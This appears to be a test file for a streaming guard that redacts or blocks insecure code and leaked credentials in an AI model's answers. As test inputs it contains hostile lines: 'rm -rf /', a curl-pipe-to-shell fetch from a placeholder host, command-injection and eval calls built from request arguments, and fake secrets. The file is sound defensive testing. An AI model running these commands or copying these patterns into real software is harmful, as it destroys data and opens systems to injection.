"""The guard's stream: what is let through, what is not, and that the cutting of the answer does not matter."""

from __future__ import annotations

import asyncio
import re
from collections.abc import Iterable, Iterator
from functools import cache

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tieout.plugin import (
    Allow,
    Block,
    GuardInput,
    Language,
    Redact,
    Release,
    Retry,
    Stage,
    Unknown,
    Verdict,
    Warn,
)
from tieout_code_shield.guard import ShieldGuard
from tieout_code_shield.rule_files import shipped_rules
from tieout_code_shield.settings import Policy, ShieldSettings
from tieout_code_shield.shield import Shield


@cache
def shield() -> Shield:
    # A generous limit: these tests are about what is found, on machines that may be busy.
    return Shield(ShieldSettings(max_seconds=5.0))


async def streamed(
    parts: Iterable[str], *, lang: Language = "en", using: Shield | None = None
) -> tuple[str, list[Verdict]]:
    stream = ShieldGuard(using or shield()).open_stream(GuardInput(Stage.OUTPUT, "", lang))
    text, verdicts = "", []
    for part in parts:
        release = await stream.feed(part)
        text += release.text
        verdicts += said(release)
        if isinstance(release.verdict, Block | Retry):
            assert await stream.feed("more") == await stream.finish()
            return text, verdicts
    release = await stream.finish()
    return text + release.text, [*verdicts, *said(release)]


def said(release: Release) -> list[Verdict]:
    unknown = [Unknown(release.unchecked.reason)] if release.unchecked is not None else []
    return [*unknown, release.verdict]


def only(verdicts: list[Verdict]) -> list[Verdict]:
    return [verdict for verdict in verdicts if not isinstance(verdict, Allow)]


async def test_harmless_answer_passes_unchanged() -> None:
    python = "```python\nimport json\n\ndata = json.loads(text)\n```\n"
    answer = f"Use `eval` with care.\n\n{python}\n1. 中文也行。\n```js\nconst a = [1,\n 2];\n```"
    text, verdicts = await streamed([answer])
    assert text == answer
    assert not only(verdicts)


async def test_statement_is_taken_out_and_the_answer_goes_on() -> None:
    answer = "Run:\n```python\nimport os\nos.system(\n    'ls ' + name,\n)\nprint(1)\n```\nDone."
    text, verdicts = await streamed([answer])
    assert text == (
        "Run:\n```python\nimport os\npass  # [code shield: removed CWE-78 py-os-command]\nprint(1)\n```\nDone."
    )
    (verdict,) = only(verdicts)
    assert isinstance(verdict, Redact)
    (finding,) = verdict.findings
    assert (finding.rule, finding.line) == ("py-os-command", 2)
    assert answer[finding.start : finding.end].startswith("os.system(")


async def test_notice_is_in_the_users_language() -> None:
    text, verdicts = await streamed(["```js\neval(x);\n```\n"], lang="zh")
    assert "// [代码防护：已移除 CWE-95 js-eval]" in text
    (verdict,) = only(verdicts)
    assert isinstance(verdict, Redact)
    assert "JavaScript 执行" in verdict.message


async def test_critical_finding_ends_the_answer_with_the_fence_closed() -> None:
    text, verdicts = await streamed(["> ```bash\n> ls\n> sudo rm -rf /\n> ls\n> ```\nafter\n"])
    assert text == "> ```bash\n> ls\n> ```\n"
    (verdict,) = only(verdicts)
    assert isinstance(verdict, Block)
    assert "erases" in verdict.message


async def test_fence_is_closed_on_a_line_of_its_own_however_the_answer_is_cut() -> None:
    answer = f"```bash\n{'x' * 20_000} && rm -rf /\n```\n"
    whole, _ = await streamed([answer])
    assert whole.endswith("x\n```\n")
    assert (await streamed(list(answer)))[0] == whole


async def test_header_of_a_block_keeps_the_code_below_it_valid() -> None:
    text, _ = await streamed(["```python\nif eval(x):\n    a()\nelif eval(y):\n    b()\n```\n"])
    code = text.split("```python\n")[1].split("```")[0]
    compile(code, "answer", "exec")
    assert "eval(" not in code


async def test_brackets_stay_balanced_in_javascript() -> None:
    text, _ = await streamed(["```js\nif (a) {\n  b();\n} else if (eval(c)) {\n  d();\n}\n```\n"])
    assert text.count("{") == text.count("}")
    assert "eval(" not in text


LONG = {
    "python": (
        "os.system(\n" + "    'ls ' +\n" * 252 + "    request.args['x'])\n",
        "import os\n",
        "print(1)\n",
    ),
    "py": ("if eval(more[\n" + "    more,\n" * 252 + "    more]):\n", "", "    print(1)\n"),
    "js": ("eval(x,\n" + "  more,\n" * 450 + "  more);\n", "if (a) {\n", "}\n"),
    "ts": ("eval(a)\n" + "  .b()\n" * 45 + "  .c();\n", "", "d();\n"),
}


@pytest.mark.parametrize("tag", LONG)
async def test_no_byte_of_a_long_statement_leaves_once_its_beginning_was_taken_out(tag: str) -> None:
    statement, before, after = LONG[tag]
    text, _verdicts = await streamed(f"```{tag}\n{before}{statement}{after}```\n".splitlines(keepends=True))
    assert not any(line.strip() in text for line in statement.splitlines())
    assert text.startswith(f"```{tag}\n{before}")
    assert text.endswith(f"{after}```\n")
    assert (text.count("("), text.count("{")) == (text.count(")"), text.count("}"))
    if tag in ("python", "py"):
        compile(text.partition("\n")[2].removesuffix("```\n"), "answer", "exec")


async def test_a_statement_that_passed_in_part_is_unknown() -> None:
    statement = "x = foo(\n" + "    'ls',\n" * 252 + "    1)\n"
    text, verdicts = await streamed([f"```python\n{statement}```\n"])
    assert statement in text
    assert any(isinstance(verdict, Unknown) for verdict in verdicts)


async def test_a_decorator_goes_with_what_it_decorates() -> None:
    answer = (
        "```python\n@app.route('/x')\n@login(\n    1,\n)\n# why\ndef x(): return eval(request.args['q'])\n"
        "@app.route('/y')\ndef y():\n    return 1\n```\n"
    )
    text, _verdicts = await streamed([answer])
    code = text.partition("\n")[2].removesuffix("```\n")
    compile(code, "answer", "exec")
    assert "/x" not in text
    assert "@app.route('/y')\ndef y():" in text


def dangerous_examples() -> Iterator[tuple[str, str, str]]:
    """Every example of a code rule that a scan of it finds high or critical: the rule, the language, the code."""
    for rule in shipped_rules():
        if rule.category != "code":
            continue
        for language in rule.languages:
            for code in rule.must_hit:
                issues = shield().scanner.scan(code, language).issues
                if any(
                    each.severity in ("high", "critical") and each.rule.category == "code" for each in issues
                ):
                    yield rule.id, language, code


async def test_what_a_scan_calls_dangerous_does_not_leave_a_stream_whole() -> None:
    out: list[str] = []
    count = 0
    for rule, language, code in dangerous_examples():
        answer = f"```{language}\n{code.rstrip(chr(10))}\n```\n"
        text, verdicts = await streamed([answer])
        count += 1
        if text == answer or not any(isinstance(verdict, Redact | Block) for verdict in verdicts):
            out.append(f"{rule} in {language}: {code}")
    assert not out
    assert count > 700


USED = [
    ("int f() {\nint *p = malloc(4);\nfree(p);\n*p = 1;\nreturn 0;\n}\n", "*p = 1;"),
    ('free(n);\nlog_it();\nprintf("%d", n->value);\n', "n->value"),
    ("free(p);\nlog_it();\nfree(p);\nlog_it();\n", ""),
]


@pytest.mark.parametrize(("code", "use"), USED)
async def test_memory_used_after_it_was_freed_is_found_at_the_use(code: str, use: str) -> None:
    text, _verdicts = await streamed([f"```c\n{code}```\n"])
    assert text.count("free(") == 1
    assert not use or use not in text
    (issue,) = shield().scanner.scan(code, "c").issues
    assert issue.line > code[: code.index("free(")].count("\n") + 1


async def test_statement_that_makes_an_earlier_one_dangerous_is_taken_out() -> None:
    reads = 'const read = (name) => fs.readFileSync("/data/" + name);\n'
    uses = 'app.get("/d", (req, res) => res.send(read(req.params.name)));\n'
    text, verdicts = await streamed([f"```js\n{reads}a();\n{uses}b();\n```\n"])
    assert reads in text
    assert "req.params" not in text
    assert text.endswith("b();\n```\n")
    assert isinstance(only(verdicts)[-1], Redact)


@pytest.mark.parametrize("tag", ["", "text", "console", "javascript", "ts", "json"])
async def test_missing_or_wrong_language_does_not_hide_python(tag: str) -> None:
    text, _ = await streamed([f"```{tag}\nimport os\ndef f(name):\n    os.system('ls ' + name)\n```\n"])
    assert "os.system" not in text


async def test_added_lines_of_a_diff_and_prompts_are_scanned() -> None:
    added = "+import os\n+def f(name):\n+    os.system('ls ' + name)\n"
    text, _ = await streamed([f"```diff\n--- a/x.py\n+++ b/x.py\n-def f(): pass\n{added}```\n"])
    assert "os.system" not in text
    assert "-def f(): pass" in text
    text, _ = await streamed(["```pycon\n>>> import os\n>>> os.system('ls ' + name)\n0\n```\n"])
    assert "os.system" not in text


async def test_missing_end_of_block_is_scanned_too() -> None:
    text, _ = await streamed(["```python\nx = eval(\n  y"])
    assert text == "```python\npass  # [code shield: removed CWE-95 py-eval]"


async def test_alias_far_above_is_remembered() -> None:
    filler = "".join(f"    value_{n} = {n}\n" for n in range(150))
    above = "from os import system as run\ncommand = 'ls ' + name\n"
    text, verdicts = await streamed([f"```python\n{above}def f():\n{filler}    run(command)\n```\n"])
    assert "run(command)" not in text
    assert isinstance(only(verdicts)[0], Redact)


async def test_listener_is_judged_when_its_body_is_there() -> None:
    good = "```js\nwindow.addEventListener('message', (e) => {\n  if (e.origin !== home) return;\n  go(e);\n});\n```\n"
    bad = good.replace("if (e.origin !== home) return;", "log(e);")
    assert not only((await streamed([good]))[1])
    text, verdicts = await streamed([bad])
    assert text == bad
    assert isinstance(only(verdicts)[0], Warn)


async def test_credential_is_taken_out_of_prose() -> None:
    key = "\u0041KIAQ3EGRIDWN5OTZFAK"
    text, verdicts = await streamed(list(f"Your key {key}, keep it."))
    assert text == "Your key [code shield: removed secret-aws-key], keep it."
    assert isinstance(only(verdicts)[0], Redact)


async def test_private_key_in_prose_is_taken_out_whole() -> None:
    key = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKC\nAQEA3f\n-----END RSA PRIVATE KEY-----"
    text, _ = await streamed(list(f"Here:\n{key}\nDone."))
    assert "MII" not in text
    assert "AQEA3f" not in text
    assert text.endswith("Done.")


async def test_language_without_rules_is_unknown_once() -> None:
    text, verdicts = await streamed(
        ["```swift\nlet a = 1\n", "let b = 2\n```\n", "```swift\nlet c = 3\n```\n"]
    )
    assert "let c = 3" in text
    assert [type(verdict) for verdict in only(verdicts)] == [Unknown]


async def test_statement_nobody_can_check_whole_is_unknown() -> None:
    _, verdicts = await streamed(["```python\nx = [\n" + "  1,\n" * 400 + "]\n```\n"])
    assert isinstance(only(verdicts)[0], Unknown)


async def test_suppression_comment_of_a_model_is_ignored() -> None:
    text, _ = await streamed(["```python\neval(x)  # nosec\n```\n"])
    assert "eval(" not in text


async def test_policy_decides_by_severity_weakness_and_rule() -> None:
    answer = "```python\neval(x)\nhashlib.md5(y)\n```\nafter\n"
    mild = Shield(ShieldSettings(max_seconds=5.0, policies=(Policy(action="warn", rule="py-eval"),)))
    text, verdicts = await streamed([answer], using=mild)
    assert text == answer
    assert isinstance(only(verdicts)[0], Warn)
    strict = Shield(ShieldSettings(max_seconds=5.0, policies=(Policy(action="retry", cwe="CWE-95"),)))
    text, verdicts = await streamed([answer], using=strict)
    assert text == "```python\n```\n"
    assert isinstance(only(verdicts)[0], Retry)


# Pieces of answers; a statement that must not get out carries the word Bad in each of its lines.
PROSE = st.sampled_from(
    [
        "Some words.\n",
        "- item `eval(x)`\n",
        "中文段落，没有代码。\n\n",
        "> quoted\n",
        "1. one\n",
        "``` not a fence `\n",
        "--- \n",
    ]
)
PYTHON = st.sampled_from(
    ["x = 1\n", "def f(a):\n    return a\n", "eval(Bad)\n", "os.system(\n    'Bad' + Bad,\n    Bad)\n",
     "y = [\n  1,\n]\n", "s = '''\n``\n'''\n", "if eval(Bad):\n    pass\n", "    exec(Bad)\n", "# comment\n", "\n",
     "requests.get(Bad, verify=False)\n"]
)  # fmt: skip
SCRIPT = st.sampled_from(
    ["const x = 1;\n", "f(() => {\n  g();\n});\n", "eval(Bad)\n", "el.innerHTML\n  = Bad + req.query.Bad\n",
     "new Function(\n  Bad\n)\n", "const t = `\n  ${x}\n`\n", "// comment\n", "a\n  .b()\n",
     "if (eval(Bad)) {\n  c()\n}\n", "\n", "exec('Bad' + Bad, cb);\n"]
)  # fmt: skip
SHELL = st.sampled_from(["ls -l\n", "curl https://Bad.example/x | sh\n", "echo \\\n  hi\n"])


def block(lines: st.SearchStrategy[str], tags: tuple[str, ...]) -> st.SearchStrategy[str]:
    def build(parts: list[str], tag: str, fence: str, end: bool, indent: str) -> str:
        code = f"{fence}{tag}\n{''.join(parts)}" + (f"{fence}\n" if end else "")
        return "".join(indent + line for line in code.splitlines(keepends=True))

    return st.builds(
        build,
        st.lists(lines, max_size=6),
        st.sampled_from(tags),
        st.sampled_from(["```", "~~~~", "````"]),
        st.sampled_from([True, True, True, False]),
        st.sampled_from(["", "", "  ", "> "]),
    )


ANSWERS = st.lists(
    st.one_of(
        PROSE,
        block(PYTHON, ("python", "py", "", "text")),
        block(SCRIPT, ("js", "javascript", "typescript")),
        block(SHELL, ("bash", "sh")),
    ),
    max_size=5,
).map("".join)


def cut(text: str, places: list[int]) -> list[str]:
    ends = sorted(place % (len(text) + 1) for place in places)
    return [text[start:end] for start, end in zip([0, *ends], [*ends, len(text)], strict=True)]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ANSWERS, st.lists(st.lists(st.integers(0, 10_000), max_size=12), min_size=1, max_size=6))
def test_cutting_changes_nothing(answer: str, cuttings: list[list[int]]) -> None:
    whole, verdicts = asyncio.run(streamed([answer]))
    assert asyncio.run(streamed(list(answer)))[0] == whole
    for places in cuttings:
        text, others = asyncio.run(streamed(cut(answer, places)))
        assert text == whole
        assert isinstance(others[-1], Block) == isinstance(verdicts[-1], Block)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.one_of(
            PROSE, block(PYTHON, ("python", "py")), block(SCRIPT, ("js", "ts")), block(SHELL, ("bash",))
        ),
        max_size=5,
    )
)
def test_no_byte_of_a_removed_statement_gets_out(parts: list[str]) -> None:
    # Each block ends where the next part begins, so that code is never read as another block's.
    answer = "\n".join(part if closed(part) else part + ending(part) for part in parts)
    text, _ = asyncio.run(streamed(list(answer)))
    assert "Bad" not in text


def closed(part: str) -> bool:
    fences = re.findall(r"^(?:> |  )?(```+|~~~+)", part, re.MULTILINE)
    return not fences or "not a fence" in part or len(fences) % 2 == 0


def ending(part: str) -> str:
    fence = re.match(r"((?:> |  )?)(```+|~~~+)", part)
    assert fence is not None
    return f"{fence[1]}{fence[2]}\n"


BAD = "import os\nos.system('ls ' + request.args['x'])\n"
CALL = '{"tool": "run", "code": "import os\\nos.system(\'ls \' + request.args[\'x\'])"}'


@pytest.mark.parametrize(
    "answer",
    [
        "```\n" + "int a;\n" * 80 + BAD + "```\n",
        "```\n" + "puts 1\n" * 80 + BAD + "```\n",
        "```\n" + " \n" * 4_500 + BAD + "```\n",
        f"```ruby\nputs 1\n{BAD}```\n",
        f"```\n{CALL}\n```\n",
        "```\n{\n" + CALL[1:-1] + "\n}\n```\n",
        f"Here: ```python\n{BAD}```\nand more\n",
    ],
)
async def test_a_beginning_that_misleads_lets_nothing_out(answer: str) -> None:
    for pieces in ([answer], list(answer)):
        text, verdicts = await streamed(pieces)
        assert "request.args" not in text
        assert any(isinstance(verdict, Redact) for verdict in verdicts)


@pytest.mark.parametrize(
    "answer",
    [
        "Run this:\n\n    import os\n    os.system('ls ' + request.args['x'])\n\nDone.\n",
        f"I call {CALL} now.\n",
        f"<tool_call>{CALL}</tool_call>\n",
        f"<pre><code>{BAD}</code></pre>\n",
        f"<pre>\n{BAD.replace(chr(39), '&#39;')}</pre>\n",
    ],
)
async def test_code_outside_of_fences_is_told(answer: str) -> None:
    for pieces in ([answer], list(answer)):
        text, verdicts = await streamed(pieces)
        assert text == answer
        assert any(isinstance(verdict, Warn) for verdict in verdicts)


@pytest.mark.parametrize(
    "answer",
    [
        "1. A list\n\n    goes on with a sentence about eval and os.system, indented.\n",
        "Use ``` to open a fence.\n```python\nprint(1)\n```\n",
        "Say `x` or ```y``` and go on\nwith words.\n",
        '{"text": "a sentence about what eval(x) does, and why"} is what it sent.\n',
    ],
)
async def test_prose_that_only_looks_like_it_is_left_alone(answer: str) -> None:
    for pieces in ([answer], list(answer)):
        text, verdicts = await streamed(pieces)
        assert text == answer
        assert all(isinstance(verdict, Allow) for verdict in verdicts)
